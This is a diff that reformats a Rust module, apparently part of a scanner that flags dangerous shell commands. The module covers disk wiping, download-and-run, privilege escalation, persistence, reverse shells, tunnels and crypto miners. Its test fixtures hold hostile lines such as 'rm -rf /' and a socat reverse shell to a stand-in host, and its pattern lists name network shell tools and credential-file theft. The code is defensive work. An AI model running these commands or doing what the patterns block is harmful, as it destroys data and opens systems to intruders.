@@ -23,7 +23,10 @@ pub static DESTROY: Rule = Rule {
         ("Procfile", "web: node server.js; rm -rf /home"),
         ("package.json", "{\"scripts\": {\"clean\": \"rm -rf /\"}}"),
     ],
-    spares: &[("x.sh", "rm -rf node_modules dist ./build\nrm -f /tmp/x.lock\nfind . -name '*.pyc' -delete"), ("package.json", "{\"scripts\": {\"clean\": \"rm -rf dist\"}}")],
+    spares: &[
+        ("x.sh", "rm -rf node_modules dist ./build\nrm -f /tmp/x.lock\nfind . -name '*.pyc' -delete"),
+        ("package.json", "{\"scripts\": {\"clean\": \"rm -rf dist\"}}"),
+    ],
 };
 pub static DOWNLOAD: Rule = Rule {
     id: "command-download-run",
@@ -75,7 +78,11 @@ pub static REMOTE: Rule = Rule {
     severity: Severity::Block,
     why: "it opens a way in or out that nothing watches",
     remedy: "speak HTTP to a named host, from the app itself",
-    finds: &[("x.sh", "nc -lvp 4444"), ("x.sh", "socat TCP:c.example.net:443 EXEC:sh"), ("x.sh", "n\\c c.example.net 80 < data")],
+    finds: &[
+        ("x.sh", "nc -lvp 4444"),
+        ("x.sh", "socat TCP:c.example.net:443 EXEC:sh"),
+        ("x.sh", "n\\c c.example.net 80 < data"),
+    ],
     spares: &[("x.sh", "until nc -z db 5432; do sleep 1; done\nrsync -a src/ dest/")],
 };
 
@@ -83,20 +90,61 @@ pub(super) const RULES: &[&Rule] = &[&DESTROY, &DOWNLOAD, &PRIVILEGE, &PERSIST, 
 
 /// Hosts whose installers are the official way, and are read by many.
 const INSTALLERS: [&str; 14] = [
-    "deb.nodesource.com", "rpm.nodesource.com", "sh.rustup.rs", "install.python-poetry.org", "astral.sh", "bun.sh", "deno.land", "get.pnpm.io",
-    "raw.githubusercontent.com", "get.docker.com", "fnm.vercel.app", "dl.yarnpkg.com", "bootstrap.pypa.io", "get.volta.sh",
+    "deb.nodesource.com",
+    "rpm.nodesource.com",
+    "sh.rustup.rs",
+    "install.python-poetry.org",
+    "astral.sh",
+    "bun.sh",
+    "deno.land",
+    "get.pnpm.io",
+    "raw.githubusercontent.com",
+    "get.docker.com",
+    "fnm.vercel.app",
+    "dl.yarnpkg.com",
+    "bootstrap.pypa.io",
+    "get.volta.sh",
 ];
 /// Whose output `eval` is made for.
 const EVALUATED: [&str; 14] = [
-    "ssh-agent", "pyenv", "rbenv", "nodenv", "direnv", "brew", "opam", "fnm", "starship", "minikube", "docker-machine", "conda", "dircolors", "zoxide",
+    "ssh-agent",
+    "pyenv",
+    "rbenv",
+    "nodenv",
+    "direnv",
+    "brew",
+    "opam",
+    "fnm",
+    "starship",
+    "minikube",
+    "docker-machine",
+    "conda",
+    "dircolors",
+    "zoxide",
 ];
 
 pub(in crate::guard) fn is_interpreter(program: &str) -> bool {
-    is_shell(program) || matches!(program, "node" | "perl" | "ruby" | "php" | "deno" | "bun" | "lua") || program.starts_with("python")
+    is_shell(program)
+        || matches!(program, "node" | "perl" | "ruby" | "php" | "deno" | "bun" | "lua")
+        || program.starts_with("python")
 }
 
 fn is_shell(program: &str) -> bool {
-    matches!(program, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "csh" | "tcsh" | "busybox" | "pwsh" | "powershell" | "cmd")
+    matches!(
+        program,
+        "sh" | "bash"
+            | "zsh"
+            | "dash"
+            | "ksh"
+            | "ash"
+            | "fish"
+            | "csh"
+            | "tcsh"
+            | "busybox"
+            | "pwsh"
+            | "powershell"
+            | "cmd"
+    )
 }
 
 /// Judges words that are started without a shell.
@@ -130,7 +178,10 @@ pub(super) fn judge(command: &Command, line: usize, found: &mut Found<'_>) {
 /// `curl c.example.net` and `curl 2852039166` need no scheme.
 fn bare_host(program: &str, word: &str) -> Option<String> {
     let fetches = matches!(program, "curl" | "wget" | "http" | "ping" | "nslookup" | "dig");
-    (fetches && !word.starts_with('-') && !word.contains("://")).then(|| hosts::of(&format!("http://{word}"))).flatten().filter(|_| word.contains('.') || word.len() >= 8)
+    (fetches && !word.starts_with('-') && !word.contains("://"))
+        .then(|| hosts::of(&format!("http://{word}")))
+        .flatten()
+        .filter(|_| word.contains('.') || word.len() >= 8)
 }
 
 fn has(args: &[String], options: &[&str]) -> bool {
@@ -143,16 +194,25 @@ fn redirects(command: &Command, line: usize, found: &mut Found<'_>) {
         let ends = |ends: &[&str]| ends.iter().any(|end| target.ends_with(end));
         if target.starts_with("/dev/sd") || target.starts_with("/dev/nvme") || target.starts_with("/dev/mem") {
             found.add(&DESTROY, line, "it writes over a disk");
-        } else if target.contains("sudoers") || target.contains("ld.so.preload") || target == "/etc/passwd" || target == "/etc/shadow" {
+        } else if target.contains("sudoers")
+            || target.contains("ld.so.preload")
+            || target == "/etc/passwd"
+            || target == "/etc/shadow"
+        {
             found.add(&PRIVILEGE, line, &format!("it writes to {target}"));
-        } else if starts(&["/etc/", "/root/", "/usr/", "/lib/", "/boot/"]) && target != "/etc/hosts" || ends(&[".bashrc", ".profile", ".bash_profile", ".zshrc", "authorized_keys"]) {
+        } else if starts(&["/etc/", "/root/", "/usr/", "/lib/", "/boot/"]) && target != "/etc/hosts"
+            || ends(&[".bashrc", ".profile", ".bash_profile", ".zshrc", "authorized_keys"])
+        {
             found.add(&PERSIST, line, &format!("it writes to {target}"));
         }
     }
 }
 
 fn credentials(command: &Command, program: &str, line: usize, found: &mut Found<'_>) {
-    let keeps = matches!(program, "ssh" | "ssh-keygen" | "ssh-add" | "ssh-keyscan" | "chmod" | "mkdir" | "chown" | "touch" | "echo" | "npm");
+    let keeps = matches!(
+        program,
+        "ssh" | "ssh-keygen" | "ssh-add" | "ssh-keyscan" | "chmod" | "mkdir" | "chown" | "touch" | "echo" | "npm"
+    );
     let path = |word: &String| is_credential_file(word.rsplit(['@', '=']).next().unwrap_or(word));
     let named = command.words.iter().chain(&command.redirects).any(path);
     let sends = matches!(program, "curl" | "wget" | "nc" | "scp" | "ncat" | "http" | "mail" | "sendmail" | "rsync");
@@ -170,14 +230,46 @@ fn credentials(command: &Command, program: &str, line: usize, found: &mut Found<
 fn destroys(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
     let system = |path: &String| {
         let path = path.trim_end_matches(['*', '.']);
-        let root = matches!(path, "/" | "~" | "~/" | "/home" | "/home/" | "/etc" | "/etc/" | "/usr" | "/usr/" | "/var" | "/var/" | "/bin" | "/lib" | "/boot" | "/root" | "/root/" | "/opt" | "/srv" | "C:\\" | "c:\\");
+        let root = matches!(
+            path,
+            "/" | "~"
+                | "~/"
+                | "/home"
+                | "/home/"
+                | "/etc"
+                | "/etc/"
+                | "/usr"
+                | "/usr/"
+                | "/var"
+                | "/var/"
+                | "/bin"
+                | "/lib"
+                | "/boot"
+                | "/root"
+                | "/root/"
+                | "/opt"
+                | "/srv"
+                | "C:\\"
+                | "c:\\"
+        );
         root || path == HOLE.to_string() && args.iter().any(|arg| arg == "--no-preserve-root")
     };
     let on_system = args.iter().any(system);
-    let on_disk = args.iter().any(|arg| arg.contains("/dev/sd") || arg.contains("/dev/nvme") || arg.contains("/dev/vd") || arg.contains("/dev/xvd") || arg.contains("/dev/hd") || arg.contains("/dev/mmcblk"));
+    let on_disk = args.iter().any(|arg| {
+        arg.contains("/dev/sd")
+            || arg.contains("/dev/nvme")
+            || arg.contains("/dev/vd")
+            || arg.contains("/dev/xvd")
+            || arg.contains("/dev/hd")
+            || arg.contains("/dev/mmcblk")
+    });
     let destroys = match program {
-        "rm" | "shred" | "unlink" | "del" | "rmdir" | "rd" | "Remove-Item" | "srm" => on_system || on_disk || has(args, &["--no-preserve-root"]),
-        "dd" | "wipefs" | "fdisk" | "parted" | "sgdisk" | "blkdiscard" => on_disk || args.iter().any(|arg| arg.starts_with("of=/dev/") && arg != "of=/dev/null"),
+        "rm" | "shred" | "unlink" | "del" | "rmdir" | "rd" | "Remove-Item" | "srm" => {
+            on_system || on_disk || has(args, &["--no-preserve-root"])
+        }
+        "dd" | "wipefs" | "fdisk" | "parted" | "sgdisk" | "blkdiscard" => {
+            on_disk || args.iter().any(|arg| arg.starts_with("of=/dev/") && arg != "of=/dev/null")
+        }
         "mv" | "truncate" | "cp" => on_system && args.iter().any(|arg| arg == "/dev/null") || on_disk,
         "chmod" | "chown" | "chattr" => on_system,
         "shutdown" | "reboot" | "halt" | "poweroff" => true,
@@ -205,20 +297,29 @@ fn runs(command: &Command, program: &str, args: &[String], line: usize, found: &
                 let known = hosts::named(feed).iter().any(|host| INSTALLERS.contains(&host.as_str()));
                 !known
             }
-            "base64" | "base32" | "xxd" | "openssl" | "gunzip" | "zcat" | "uudecode" | "rev" | "tr" | "gzip" | "nc" | "hexdump" | "printf" => true,
+            "base64" | "base32" | "xxd" | "openssl" | "gunzip" | "zcat" | "uudecode" | "rev" | "tr" | "gzip" | "nc"
+            | "hexdump" | "printf" => true,
             "echo" => feed.contains("\\x") || feed.len() > 400,
             _ => false,
         }
     };
     let fed = command.feeds.iter().any(makes);
-    let runs_feed = is_interpreter(program) || matches!(program, "source" | "." | "eval" | "xargs") || command.words.iter().any(|word| word == "xargs");
+    let runs_feed = is_interpreter(program)
+        || matches!(program, "source" | "." | "eval" | "xargs")
+        || command.words.iter().any(|word| word == "xargs");
     let plain_args = args.iter().filter(|arg| !arg.starts_with('-')).count();
     // `python script.py` reads its own file, whatever is piped into it.
-    let script = is_interpreter(program) && plain_args > 0 && !args.iter().any(|arg| arg.starts_with("/dev/fd/") || arg.contains(HOLE) || arg == "/dev/stdin") && !has(args, &["-s", "-c"]);
+    let script = is_interpreter(program)
+        && plain_args > 0
+        && !args.iter().any(|arg| arg.starts_with("/dev/fd/") || arg.contains(HOLE) || arg == "/dev/stdin")
+        && !has(args, &["-s", "-c"]);
     if fed && runs_feed && !script {
         found.add(&DOWNLOAD, line, &format!("{program} runs what another program gives it"));
     } else if program == "eval" && args.iter().any(|arg| arg.contains(HOLE)) {
-        let known = command.feeds.iter().any(|feed| feed.split_whitespace().next().is_some_and(|first| EVALUATED.contains(&first)));
+        let known = command
+            .feeds
+            .iter()
+            .any(|feed| feed.split_whitespace().next().is_some_and(|first| EVALUATED.contains(&first)));
         if !known {
             found.add(&DOWNLOAD, line, "eval runs what it is given");
         }
@@ -234,10 +335,17 @@ fn runs(command: &Command, program: &str, args: &[String], line: usize, found: &
 
 fn privileges(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
     let takes = match program {
-        "chmod" => args.iter().any(|arg| arg.contains("+s") || arg.len() == 4 && arg.starts_with(['4', '2', '6']) && arg.chars().all(|c| c.is_ascii_digit())),
-        "setcap" | "nsenter" | "insmod" | "modprobe" | "visudo" | "chroot" | "unshare" | "usermod" | "passwd" | "chpasswd" | "iptables" | "nft" | "ufw" | "setenforce" => true,
+        "chmod" => args.iter().any(|arg| {
+            arg.contains("+s")
+                || arg.len() == 4 && arg.starts_with(['4', '2', '6']) && arg.chars().all(|c| c.is_ascii_digit())
+        }),
+        "setcap" | "nsenter" | "insmod" | "modprobe" | "visudo" | "chroot" | "unshare" | "usermod" | "passwd"
+        | "chpasswd" | "iptables" | "nft" | "ufw" | "setenforce" => true,
         "useradd" | "adduser" => args.iter().any(|arg| arg == "0" || arg == "sudo" || arg == "wheel"),
-        "docker" | "podman" => has(args, &["--privileged", "--pid=host", "--net=host"]) || args.iter().any(|arg| arg.starts_with("/:/") || arg.contains("docker.sock")),
+        "docker" | "podman" => {
+            has(args, &["--privileged", "--pid=host", "--net=host"])
+                || args.iter().any(|arg| arg.starts_with("/:/") || arg.contains("docker.sock"))
+        }
         "mount" => !args.is_empty(),
         _ => false,
     };
@@ -245,7 +353,15 @@ fn privileges(program: &str, args: &[String], line: usize, found: &mut Found<'_>
         found.add(&PRIVILEGE, line, &format!("`{program}`"));
     }
     let stays = match program {
-        "cp" | "mv" | "tee" | "install" | "ln" => args.iter().any(|arg| arg.starts_with("/etc/cron") || arg.starts_with("/etc/systemd") || arg.starts_with("/etc/init.d") || arg.ends_with("authorized_keys") || arg.starts_with("/etc/profile") || arg.starts_with("/etc/sudoers") || arg.ends_with(".bashrc")),
+        "cp" | "mv" | "tee" | "install" | "ln" => args.iter().any(|arg| {
+            arg.starts_with("/etc/cron")
+                || arg.starts_with("/etc/systemd")
+                || arg.starts_with("/etc/init.d")
+                || arg.ends_with("authorized_keys")
+                || arg.starts_with("/etc/profile")
+                || arg.starts_with("/etc/sudoers")
+                || arg.ends_with(".bashrc")
+        }),
         _ => false,
     };
     if stays {
@@ -256,7 +372,11 @@ fn privileges(program: &str, args: &[String], line: usize, found: &mut Found<'_>
 fn remote(command: &Command, program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
     match program {
         "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
-            let shell = args.iter().any(|arg| matches!(arg.as_str(), "-e" | "-c" | "--exec" | "--sh-exec") || arg.contains("EXEC:") || arg.contains("exec:"));
+            let shell = args.iter().any(|arg| {
+                matches!(arg.as_str(), "-e" | "-c" | "--exec" | "--sh-exec")
+                    || arg.contains("EXEC:")
+                    || arg.contains("exec:")
+            });
             if shell {
                 found.add(&spawn::REVERSE_SHELL, line, &format!("`{program}` gives away a shell"));
             }
@@ -264,20 +384,37 @@ fn remote(command: &Command, program: &str, args: &[String], line: usize, found:
                 found.add(&REMOTE, line, &format!("`{program}`"));
             }
         }
-        "ssh" if args.iter().any(|arg| matches!(arg.as_str(), "-R" | "-D" | "-w") || arg.starts_with("-R") || arg.starts_with("-fNR") || arg.contains("NR")) => {
+        "ssh"
+            if args.iter().any(|arg| {
+                matches!(arg.as_str(), "-R" | "-D" | "-w")
+                    || arg.starts_with("-R")
+                    || arg.starts_with("-fNR")
+                    || arg.contains("NR")
+            }) =>
+        {
             found.add(&network::TUNNEL, line, "`ssh` opens a way back in");
         }
-        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "chisel" | "frpc" | "bore" | "pagekite" | "zrok" | "tailscale" | "gsocket" => {
+        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "chisel" | "frpc" | "bore" | "pagekite" | "zrok"
+        | "tailscale" | "gsocket" => {
             found.add(&network::TUNNEL, line, &format!("`{program}`"));
         }
-        "xmrig" | "minerd" | "cpuminer" | "ethminer" | "nbminer" | "t-rex" | "phoenixminer" | "xmr-stak" | "bfgminer" | "cgminer" => {
+        "xmrig" | "minerd" | "cpuminer" | "ethminer" | "nbminer" | "t-rex" | "phoenixminer" | "xmr-stak"
+        | "bfgminer" | "cgminer" => {
             found.add(&network::MINER, line, &format!("`{program}`"));
         }
-        "certutil" | "bitsadmin" | "mshta" | "rundll32" | "regsvr32" | "iex" | "IEX" | "Invoke-Expression" => found.add(&DOWNLOAD, line, &format!("`{program}`")),
+        "certutil" | "bitsadmin" | "mshta" | "rundll32" | "regsvr32" | "iex" | "IEX" | "Invoke-Expression" => {
+            found.add(&DOWNLOAD, line, &format!("`{program}`"))
+        }
         "crontab" if !has(args, &["-l", "-r", "-e"]) => {
             let text = command.feeds.join(" ");
-            let remote = ["curl", "wget", "nc ", "base64", "bash -i", "/tmp/", "python -c"].iter().any(|word| text.contains(word));
-            if remote { found.add(&PERSIST, line, "a job of cron fetches what it runs") } else { found.hint(&PERSIST, line, "a job of cron outlives the app") }
+            let remote = ["curl", "wget", "nc ", "base64", "bash -i", "/tmp/", "python -c"]
+                .iter()
+                .any(|word| text.contains(word));
+            if remote {
+                found.add(&PERSIST, line, "a job of cron fetches what it runs")
+            } else {
+                found.hint(&PERSIST, line, "a job of cron outlives the app")
+            }
         }
         "systemctl" if has(args, &["enable"]) => found.hint(&PERSIST, line, "a service is started with the machine"),
         "ssh" | "scp" | "sftp" | "ftp" => found.hint(&REMOTE, line, &format!("`{program}`")),
@@ -290,7 +427,8 @@ fn remote(command: &Command, program: &str, args: &[String], line: usize, found:
 
 /// Programs inside of a command: `sh -c`, `python -c`, `node -e`.
 fn inline(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
-    let code = |options: &[&str]| args.iter().position(|arg| options.contains(&arg.as_str())).and_then(|at| args.get(at + 1));
+    let code =
+        |options: &[&str]| args.iter().position(|arg| options.contains(&arg.as_str())).and_then(|at| args.get(at + 1));
     match program {
         program if program.starts_with("python") => {
             if let Some(code) = code(&["-c"]) {
@@ -305,13 +443,20 @@ fn inline(program: &str, args: &[String], line: usize, found: &mut Found<'_>) {
         "perl" | "ruby" | "php" | "lua" => {
             let joined = args.join(" ");
             let sockets = ["socket", "Socket", "exec", "system(", "`", "eval"].iter().any(|word| joined.contains(word));
-            if sockets && args.iter().any(|arg| matches!(arg.as_str(), "-e" | "-r") || arg.starts_with("-rsocket") || arg.starts_with("-M")) {
+            if sockets
+                && args.iter().any(|arg| {
+                    matches!(arg.as_str(), "-e" | "-r") || arg.starts_with("-rsocket") || arg.starts_with("-M")
+                })
+            {
                 found.add(&spawn::REVERSE_SHELL, line, &format!("`{program}` runs a program of one line"));
             }
         }
         "powershell" | "pwsh" | "powershell.exe" => {
             let joined = args.join(" ").to_ascii_lowercase();
-            if ["-enc", "-e ", "iex", "invoke-expression", "downloadstring", "downloadfile", "hidden", "frombase64"].iter().any(|word| joined.contains(word)) {
+            if ["-enc", "-e ", "iex", "invoke-expression", "downloadstring", "downloadfile", "hidden", "frombase64"]
+                .iter()
+                .any(|word| joined.contains(word))
+            {
                 found.add(&DOWNLOAD, line, "a hidden or loaded program is run");
             }
         }
@@ -337,13 +482,27 @@ fn installs(program: &str, args: &[String], line: usize, found: &mut Found<'_>) 
                 packages::npm(name, if remote { name } else { version.trim_start_matches('@') }, line, found);
             }
         }
-        "pip" | "pip3" | "uv" | "pipx" | "python" | "python3" if program.starts_with("pip") || program == "uv" || has(args, &["pip"]) => {
+        "pip" | "pip3" | "uv" | "pipx" | "python" | "python3"
+            if program.starts_with("pip") || program == "uv" || has(args, &["pip"]) =>
+        {
             let mut file = false;
             for name in packages {
                 if !file && !name.starts_with('.') && !name.starts_with('/') {
                     packages::pip(name, line, found);
                 }
-                file = matches!(name.as_str(), "-r" | "-c" | "-t" | "--target" | "--prefix" | "--root" | "--requirement" | "--index-url" | "-i" | "--extra-index-url" | "-f");
+                file = matches!(
+                    name.as_str(),
+                    "-r" | "-c"
+                        | "-t"
+                        | "--target"
+                        | "--prefix"
+                        | "--root"
+                        | "--requirement"
+                        | "--index-url"
+                        | "-i"
+                        | "--extra-index-url"
+                        | "-f"
+                );
             }
             let joined = args.join(" ");
             if let Some((_, url)) = joined.split_once("index-url") {
